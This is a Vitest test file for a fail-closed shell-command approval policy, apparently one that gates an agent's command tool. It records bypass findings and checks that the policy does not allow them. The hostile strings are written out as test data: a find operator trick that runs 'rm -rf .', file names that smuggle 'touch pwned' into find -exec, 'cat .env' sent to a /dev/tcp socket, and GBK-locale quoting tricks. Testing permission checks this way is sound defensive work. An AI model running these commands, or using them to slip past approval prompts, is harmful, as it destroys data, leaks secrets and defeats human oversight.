import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandCheck, commandPolicy, findingsSetUp } from '../support/policy-checks.js';
import { testFileFolder } from '../support/test-folders.js';
import { runTraced } from '../support/traced-bash.js';

// Findings of the attack on the fail-closed policy, under the rules of FINDINGS_ALLOW.
const base = testFileFolder('dsh-attack-findings-');
const setUp = findingsSetUp(base);

describe('find -exec read where find reads `-exec` as the value of `-name`', () => {
  it('meets the command find runs, and offers no "always" for a find operator', async () => {
    const decide = await setUp();
    // find reads `-name -exec` as a test, then `-o -exec rm -rf {} ;` (traced: it ran
    // `rm -rf .`); the policy took the first `-exec` for the action, saw a command `-o …`, and
    // offers "Always allow `-o`", after which every `find . -name -exec -o -exec … \;` runs.
    const command = 'find . -name -exec -o -exec rm -rf {} \\;';
    expect(runTraced(command).ran).toContainEqual(['rm', '-rf', '.']);
    const verdict = await decide(command);
    expect(verdict.decision).not.toBe('allow');
    expect(verdict).not.toHaveProperty('allowAlways');
    const { workspace, policy: remembered } = await commandPolicy(base, {
      allow: ['run_command:find', 'run_command:-o'],
    });
    const touch = 'find . -name -exec -o -exec touch pwned \\;';
    expect(runTraced(touch).files).toContain('pwned');
    expect((await remembered.decide(commandCheck(workspace, touch))).decision).not.toBe('allow');
  });
});

describe('find -exec puts file names into a script', () => {
  it('asks where `{}` stands inside a larger word: find puts the name there, as script text', async () => {
    const decide = await setUp();
    // A file of the workspace named `x;touch pwned` (or `x|w pwned`): find substitutes `{}`
    // inside any word, so bash runs `echo ./x;touch pwned`, and sed gets `s|a|./x|w pwned|`.
    const folder = join(base, 'names');
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, 'x;touch pwned'), '');
    writeFileSync(join(folder, 'y|w written'), 'a\n');
    const commands = [
      'find . -type f -exec bash -c "echo {}" \\;',
      'find . -type f -exec sed -n "s|a|{}|" \\;',
    ];
    for (const command of commands) spawnSync('bash', ['-c', command], { cwd: folder });
    expect(existsSync(join(folder, 'pwned'))).toBe(true);
    expect(existsSync(join(folder, 'written|'))).toBe(true);
    for (const command of commands)
      expect((await decide(command)).decision, command).not.toBe('allow');
  });
});

describe('redirections', () => {
  it('asks for `< /dev/tcp/…`: bash opens a connection, and a command can write its output there', async () => {
    const decide = await setUp();
    // `cat .env 1</dev/tcp/host/port` sends the file to host:port (seen with a listener on
    // loopback); any `<` target under /dev/tcp or /dev/udp does.
    for (const command of [
      'cat .env 1</dev/tcp/127.0.0.1/9',
      'echo hi </dev/udp/127.0.0.1/9',
      'cat < /dev/tcp/example.com/80',
    ])
      expect((await decide(command)).decision, command).not.toBe('allow');
  });
});

describe('locale variables are not inert', () => {
  // `€` is E2 82 AC in UTF-8; in GBK (also Big5, Shift-JIS) AC 5C is one character, so the `\`
  // after `€` escapes nothing, and a `"` the policy read as escaped closes the string.
  const SCRIPT = 'echo "€\\" ; touch pwned ; echo €\\\\"';

  it('asks where `LC_ALL`/`LANG`/`LC_CTYPE` names a locale in which bash reads the script otherwise', async () => {
    const decide = await setUp();
    const commands = [
      `LC_ALL=zh_CN.GBK bash -c '${SCRIPT}'`,
      `LANG=zh_CN.GBK bash -c '${SCRIPT}'`,
      `env LC_CTYPE=zh_CN.GBK bash -c '${SCRIPT}'`,
      // GNU sed reads `€\|` as one character then `|`: the flags are `w pwned|`, a file written.
      "LC_ALL=zh_CN.GBK sed 's|€\\|x|w pwned|' in.txt",
    ];
    // Where the machine has the locale (here built into a folder of the test's own, LOCPATH),
    // bash runs `touch pwned`, and sed writes `pwned|`.
    const locales = join(base, 'locales');
    const built = spawnSync('localedef', ['-i', 'zh_CN', '-f', 'GBK', join(locales, 'zh_CN.GBK')]);
    if (built.status === 0) {
      const folder = join(base, 'gbk');
      mkdirSync(folder, { recursive: true });
      writeFileSync(join(folder, 'in.txt'), 'abc\n');
      for (const command of commands)
        spawnSync('bash', ['-c', command], {
          cwd: folder,
          env: { PATH: process.env.PATH, LANG: 'C.UTF-8', LOCPATH: locales },
        });
      expect(existsSync(join(folder, 'pwned'))).toBe(true);
      expect(existsSync(join(folder, 'pwned|'))).toBe(true);
    }
    for (const command of commands)
      expect((await decide(command)).decision, command).not.toBe('allow');
  });
});
